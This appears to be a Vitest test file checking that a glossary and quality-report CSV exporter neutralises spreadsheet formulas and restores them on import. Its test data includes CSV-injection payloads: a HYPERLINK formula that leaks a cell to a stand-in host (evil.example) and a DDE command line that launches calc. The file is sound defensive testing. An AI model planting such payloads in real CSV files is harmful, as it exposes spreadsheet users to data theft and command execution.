// Issue #18 row 11: no CSV export hands a spreadsheet a formula (OWASP CSV injection).
import { describe, expect, it } from 'vitest';
import { exportGlossaryCsv, importGlossaryCsv, type GlossaryTerm } from '../formats/glossary-csv';
import { neutraliseFormula, restoreFormula } from './csv-safe';
import { csvCell } from '../review/export';

const HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

describe('CSV formula neutralising', () => {
  it('prefixes a quote to cells starting with = + - @, tab or CR, and leaves others alone', () => {
    for (const v of HOSTILE) expect(neutraliseFormula(v)).toBe(`'${v}`);
    for (const v of ['북한', 'WFP', "'quoted", '1-2', ' =not first']) expect(neutraliseFormula(v)).toBe(v);
    // A value that already looks neutralised gets a second quote, so import restores it exactly.
    expect(neutraliseFormula("'=x")).toBe("''=x");
    for (const v of [...HOSTILE, "'=x", "'plain"]) expect(restoreFormula(neutraliseFormula(v))).toBe(v);
  });

  it('exports the glossary with no live formula, and imports it back unchanged', () => {
    const terms: GlossaryTerm[] = HOSTILE.map((source, i) => ({
      source,
      target: `대상 ${i}`,
      kind: 'TERM',
      note: '',
      caseSensitive: false,
    }));
    terms.push({ source: 'ok', target: '=HYPERLINK("http://evil.example","x")', kind: 'TERM', note: '@note', caseSensitive: false });
    for (const format of ['deepl', 'full'] as const) {
      const csv = exportGlossaryCsv(terms, { format });
      for (const line of csv.split('\r\n').filter(Boolean)) {
        for (const cell of line.match(/("(?:[^"]|"")*"|[^,]*)(?:,|$)/g)!.map((c) => c.replace(/,$/, '').replace(/^"|"$/g, ''))) {
          expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        }
      }
      const back = importGlossaryCsv(csv);
      expect(back.errors).toEqual([]);
      expect(back.terms.map((t) => [t.source, t.target])).toEqual(terms.map((t) => [t.source, t.target]));
      if (format === 'full') expect(back.terms.at(-1)!.note).toBe('@note');
    }
  });

  it('neutralises the quality report CSV the same way', () => {
    expect(csvCell('=HYPERLINK("x")')).toBe(`"'=HYPERLINK(""x"")"`);
    expect(csvCell(-3)).toBe('-3');
  });
});
